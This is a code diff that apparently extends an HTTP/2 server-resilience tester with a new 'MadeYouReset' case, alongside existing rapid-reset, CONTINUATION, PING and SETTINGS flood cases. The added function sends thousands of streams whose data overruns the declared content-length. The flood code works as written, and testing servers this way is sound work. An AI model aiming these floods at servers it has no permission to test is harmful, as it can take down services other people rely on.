@@ -5,6 +5,8 @@ with no GOAWAY), or `survived` (nothing happened within the time given), and `fr
 server sent, to show it did not answer a flood in kind). Every wait is bounded.
 
   rapid_reset       HEADERS then RST_STREAM on 5,000 streams (CVE-2023-44487)
+  made_you_reset    5,000 POSTs whose DATA overruns their content-length: the server resets each
+                    stream itself ("MadeYouReset", 2025) while its handler may already run
   continuation      HEADERS without END_HEADERS, then 10,000 CONTINUATION frames (CVE-2024-28182)
   ping_flood        100,000 PINGs, never reading the answers
   settings_flood    100,000 SETTINGS frames, never reading the acknowledgements
@@ -19,7 +21,7 @@ import sys
 import time
 
 import hpack
-from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
+from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                               RstStreamFrame, SettingsFrame)
 
 PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
@@ -96,6 +98,20 @@ def rapid_reset(sock, watcher):
         for _ in range(100):
             out += HeadersFrame(stream, request_block(encoder), flags=['END_HEADERS', 'END_STREAM']).serialize()
             out += RstStreamFrame(stream, error_code=8).serialize()
+            stream += 2
+        if not send(sock, out):
+            break
+    return watcher.read(10, until_goaway=True)
+
+
+def made_you_reset(sock, watcher):
+    encoder = hpack.Encoder()
+    stream = 1
+    for batch in range(50):
+        out = b''
+        for _ in range(100):
+            out += HeadersFrame(stream, request_block(encoder, '/', [('content-length', '1')]), flags=['END_HEADERS']).serialize()
+            out += DataFrame(stream, b'xy', flags=['END_STREAM']).serialize()
             stream += 2
         if not send(sock, out):
             break
